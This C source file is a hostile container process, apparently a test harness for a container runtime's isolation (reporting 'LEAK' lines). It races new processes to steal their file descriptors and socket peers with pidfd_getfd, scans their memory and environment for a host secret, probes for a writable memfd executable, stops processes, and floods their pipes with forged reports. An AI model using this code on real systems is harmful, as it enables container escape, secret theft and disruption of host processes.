// A hostile program with CAP_SYS_PTRACE inside a container: takes whatever it can of every process that appears in its
// pid namespace, and tells what is not a container's.
//
//   attacker look NEEDLE DEVICE:INODE…   holds each new process and looks at all of it; NEEDLE, in hexadecimal, is a text
//                                        that only the host knows, and what follows are roots of containers
//   attacker stop                        sends SIGSTOP to each new process
//   attacker reopen                      keeps every pipe of each new process open
//   attacker lie                         does so, and writes without end to it that the process is about to execute
//
// Says "ready", then a line "LEAK …" for each thing, and "seen PID" for each process that was looked at.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

enum { kDescriptors = 64, kAhead = 32, kChunk = 1 << 16 };

static char needle[256];
static size_t needle_length;
static char **roots;
static dev_t pipes;  // the device of anonymous pipes

static int pidfd_open(int pid) { return (int)syscall(SYS_pidfd_open, pid, 0); }
static int pidfd_getfd(int pidfd, int fd) { return (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0); }

static void leak(int pid, const char *what, const char *detail) {
  printf("LEAK %d %s: %s\n", pid, what, detail);
  fflush(stdout);
}

static const char *link_of(const char *path) {
  static char text[4096];
  ssize_t length = readlink(path, text, sizeof(text) - 1);
  text[length < 0 ? 0 : length] = '\0';
  return text;
}

static int is_root(const struct stat *status) {
  char text[64];
  snprintf(text, sizeof(text), "%u:%u:%lu", major(status->st_dev), minor(status->st_dev), (unsigned long)status->st_ino);
  for (char **root = roots; *root != NULL; ++root)
    if (strcmp(text, *root) == 0) return 1;
  return 0;
}

static void search(int pid, const char *what, const char *bytes, size_t length) {
  if (needle_length > 0 && memmem(bytes, length, needle, needle_length) != NULL) leak(pid, what, "the host's secret");
}

static unsigned long long status_field(const char *path, const char *name, int base) {
  char line[256];
  unsigned long long value = 0;
  FILE *file = fopen(path, "re");
  while (file != NULL && fgets(line, sizeof(line), file) != NULL)
    if (strncmp(line, name, strlen(name)) == 0) value = strtoull(line + strlen(name), NULL, base);
  if (file != NULL) fclose(file);
  return value;
}

// A process outside of our pid namespace, had by a socket.
static void rob(int pid, int pidfd, const char *how) {
  for (int fd = 0; fd < kDescriptors; ++fd) {
    int got = pidfd_getfd(pidfd, fd);
    if (got < 0) continue;
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", got);
    leak(pid, how, link_of(path));
    close(got);
  }
}

static int is_memory(const char *link) { return strncmp(link, "/memfd:", 7) == 0; }

// A program of the container's image is the same file in ours, which has the same image.
static int is_of_image(const char *path, const char *link) {
  struct stat own, theirs;
  return !is_memory(link) && stat(path, &theirs) == 0 && stat(link, &own) == 0 && own.st_ino == theirs.st_ino;
}

// Whether a process executes a program of the container's image; -1 when it has ended.
static int executes_program(int pid) {
  char path[64], link[4096];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  snprintf(link, sizeof(link), "%s", link_of(path));
  return link[0] == '\0' ? -1 : is_of_image(path, link);
}

// Whether the mount that a file of ours was opened on is one of those that a process can reach; -1 when it has ended.
static int reaches_mount_of(int pid, int fd) {
  char path[64], line[4608];
  snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
  unsigned long long mount = status_field(path, "mnt_id:", 10);
  snprintf(path, sizeof(path), "/proc/%d/mountinfo", pid);
  FILE *mounts = fopen(path, "re");
  if (mounts == NULL) return -1;
  int found = 0;
  while (fgets(line, sizeof(line), mounts) != NULL)
    if (strtoull(line, NULL, 10) == mount) found = 1;
  fclose(mounts);
  return found;
}

// Whether the container's program has opened the file itself: we may be too late to see the process before that. Of one
// that has ended by now no more is known than what it was when the file was taken.
static int is_its_own(int pid, int fd, int was_program) {
  const int executes = executes_program(pid);
  const int reaches = reaches_mount_of(pid, fd);
  return executes < 0 || reaches < 0 ? was_program : executes && reaches;
}

static void look_at_descriptor(int pid, int number, int fd, int was_program) {
  char path[64], what[64];
  snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
  snprintf(what, sizeof(what), "descriptor %d", number);
  struct stat status;
  if (fstat(fd, &status) < 0) {
    leak(pid, what, "cannot be looked at");
    return;
  }
  if (S_ISSOCK(status.st_mode)) {
    int peer = -1;
    socklen_t size = sizeof(peer);
    leak(pid, what, link_of(path));
    if (getsockopt(fd, SOL_SOCKET, SO_PEERPIDFD, &peer, &size) == 0) rob(pid, peer, "the socket's peer has");
    return;
  }
  if (number <= 2) return;  // given by whoever started it
  if (S_ISFIFO(status.st_mode) && status.st_dev == pipes) return;
  if (is_its_own(pid, fd, was_program)) return;
  leak(pid, what, link_of(path));
}

static void look_at_descriptors(int pid, int pidfd) {
  const int was_program = executes_program(pid) == 1;
  for (int number = 0; number < kDescriptors; ++number) {
    int fd = pidfd_getfd(pidfd, number);
    if (fd < 0) continue;
    look_at_descriptor(pid, number, fd, was_program);
    close(fd);
  }
}

static void look_at_directory(int pid, const char *name) {
  char path[64];
  struct stat status;
  snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
  if (stat(path, &status) < 0 || is_root(&status)) return;
  leak(pid, name, link_of(path));
}

static void look_at_executable(int pid) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  char link[4096];
  snprintf(link, sizeof(link), "%s", link_of(path));
  if (link[0] == '\0') return;
  struct stat status;
  int memory = is_memory(link);
  if (!memory && stat(path, &status) == 0 && !is_of_image(path, link)) leak(pid, "exe", link);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (memory && fd >= 0 && write(fd, "x", 1) == 1) leak(pid, "exe can be written", link);
  if (fd >= 0) close(fd);
}

static void look_at_file(int pid, const char *name) {
  static char bytes[kChunk];
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t length = read(fd, bytes, sizeof(bytes));
  if (length > 0) search(pid, name, bytes, (size_t)length);
  close(fd);
}

static void look_at_memory(int pid) {
  static char bytes[kChunk + sizeof(needle)];
  char path[64], line[4608];
  snprintf(path, sizeof(path), "/proc/%d/mem", pid);
  int memory = open(path, O_RDONLY | O_CLOEXEC);
  snprintf(path, sizeof(path), "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "re");
  while (maps != NULL && fgets(line, sizeof(line), maps) != NULL) {
    unsigned long start, end, inode = 0;
    char name[4096] = "";
    sscanf(line, "%lx-%lx %*s %*s %*s %lu %4095[^\n]", &start, &end, &inode, name);
    struct stat own;
    if (name[0] == '/' && strncmp(name, "/memfd:berth-init", 17) != 0 && strncmp(name, "/memfd:runc", 11) != 0 &&
        (stat(name, &own) < 0 || own.st_ino != inode))
      leak(pid, "maps", name);
    for (unsigned long at = start; memory >= 0 && at < end; at += kChunk) {
      size_t wanted = end - at < sizeof(bytes) ? end - at : sizeof(bytes);
      ssize_t length = pread(memory, bytes, wanted, (off_t)at);
      if (length > 0) search(pid, "mem", bytes, (size_t)length);
    }
  }
  if (maps != NULL) fclose(maps);
  if (memory >= 0) close(memory);
}

// Rights that we have not got ourselves, and a filter that we have.
static void look_at_rights(int pid) {
  static const char *const sets[] = {"CapPrm:", "CapEff:", "CapBnd:", "CapInh:"};
  char path[64], text[64];
  snprintf(path, sizeof(path), "/proc/%d/status", pid);
  unsigned long long ours = status_field("/proc/self/status", "CapBnd:", 16);
  for (size_t i = 0; i < sizeof(sets) / sizeof(*sets); ++i) {
    unsigned long long more = status_field(path, sets[i], 16) & ~ours;
    snprintf(text, sizeof(text), "%llx", more);
    if (more != 0) leak(pid, sets[i], text);
  }
  if (status_field("/proc/self/status", "Seccomp:", 10) == 2 && status_field(path, "Pid:", 10) != 0 &&
      status_field(path, "Seccomp:", 10) != 2)
    leak(pid, "Seccomp:", "no filter");
}

// Stops it; 0 when it did not stop in time: then it does later.
static int hold(int pid, int *status) {
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return 0;
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) return 0;
  const struct timespec pause = {.tv_nsec = 100000};
  for (int i = 0; i < 1000; ++i) {
    if (waitpid(pid, status, __WALL | WNOHANG) == pid) return 1;
    nanosleep(&pause, NULL);
  }
  return 0;
}

// Lets go of one that stopped, with the signal that it stopped for. One that does not stand still cannot be let go.
static void let_go(int pid, int status) {
  if (!WIFSTOPPED(status)) return;
  long signal = status >> 16 == 0 ? WSTOPSIG(status) : 0;
  ptrace(PTRACE_DETACH, pid, 0, signal);
}

static void look(int pid, int pidfd) {
  // At once, before anything can be closed; and again when it cannot move.
  look_at_directory(pid, "root");
  look_at_descriptors(pid, pidfd);
  int status = 0;
  int held = hold(pid, &status);
  look_at_directory(pid, "root");
  look_at_directory(pid, "cwd");
  look_at_descriptors(pid, pidfd);
  look_at_rights(pid);
  look_at_executable(pid);
  look_at_file(pid, "environ");
  look_at_file(pid, "cmdline");
  look_at_memory(pid);
  if (held) let_go(pid, status);
}

// Fills the pipe with what init says when it is about to execute (addon/core/report.h).
static void lie(int fd) {
  static const struct {
    unsigned kind;
    char rest[444];
  } report = {.kind = 5};
  while (write(fd, &report, sizeof(report)) == (ssize_t)sizeof(report)) {
  }
}

static void reopen(int pid, int pidfd, int lying) {
  int writers[kDescriptors];
  int count = 0;
  for (int number = 3; number < kDescriptors; ++number) {
    int fd = pidfd_getfd(pidfd, number);
    char path[64];
    struct stat status;
    if (fd < 0) continue;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    if (fstat(fd, &status) < 0 || !S_ISFIFO(status.st_mode)) continue;
    // Never closed: a second writer, so that nobody sees its end.
    int writer = open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC);
    if (writer < 0) perror(path);
    writers[count++] = writer;
  }
  if (!lying || count == 0) return;
  printf("seen %d\n", pid);
  fflush(stdout);
  for (;;)
    for (int i = 0; i < count; ++i) lie(writers[i]);
}

// Stops it for good if it is not the program yet.
static void stop(int pid) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  if (kill(pid, SIGSTOP) < 0) return;
  const struct timespec pause = {.tv_nsec = 20000000};
  nanosleep(&pause, NULL);
  if (!is_memory(link_of(path))) kill(pid, SIGCONT);
}

static int last_process(void) {
  int last = 0;
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
    int pid = atoi(entry->d_name);
    if (pid > last) last = pid;
  }
  if (proc != NULL) closedir(proc);
  return last;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  const char *const mode = argv[1];
  roots = argv + (argc > 3 ? 3 : argc);
  for (const char *digit = argc > 2 ? argv[2] : ""; digit[0] != '\0' && digit[1] != '\0'; digit += 2) {
    char pair[3] = {digit[0], digit[1], '\0'};
    needle[needle_length++] = (char)strtol(pair, NULL, 16);
  }
  int ends[2];
  struct stat status;
  if (pipe(ends) < 0 || fstat(ends[0], &status) < 0) return 2;
  pipes = status.st_dev;
  signal(SIGCHLD, SIG_DFL);
  int last = last_process();
  printf("ready\n");
  fflush(stdout);
  for (unsigned long round = 1;; ++round) {
    for (int pid = last + 1; pid <= last + kAhead; ++pid) {
      int pidfd = pidfd_open(pid);
      if (pidfd < 0) continue;
      last = pid;
      if (strcmp(mode, "look") == 0) look(pid, pidfd);
      if (strcmp(mode, "stop") == 0) stop(pid);
      if (strcmp(mode, "reopen") == 0) reopen(pid, pidfd, 0);
      if (strcmp(mode, "lie") == 0) reopen(pid, pidfd, 1);
      close(pidfd);
      if (strcmp(mode, "lie") == 0) continue;
      printf("seen %d\n", pid);
      fflush(stdout);
    }
    // Children of ours, and those that stopped too late.
    for (int pid, ended; (pid = waitpid(-1, &ended, __WALL | WNOHANG)) > 0;) let_go(pid, ended);
    if (round % 4096 == 0) {
      int now = last_process();
      if (now > last) last = now - 1;
    }
  }
}
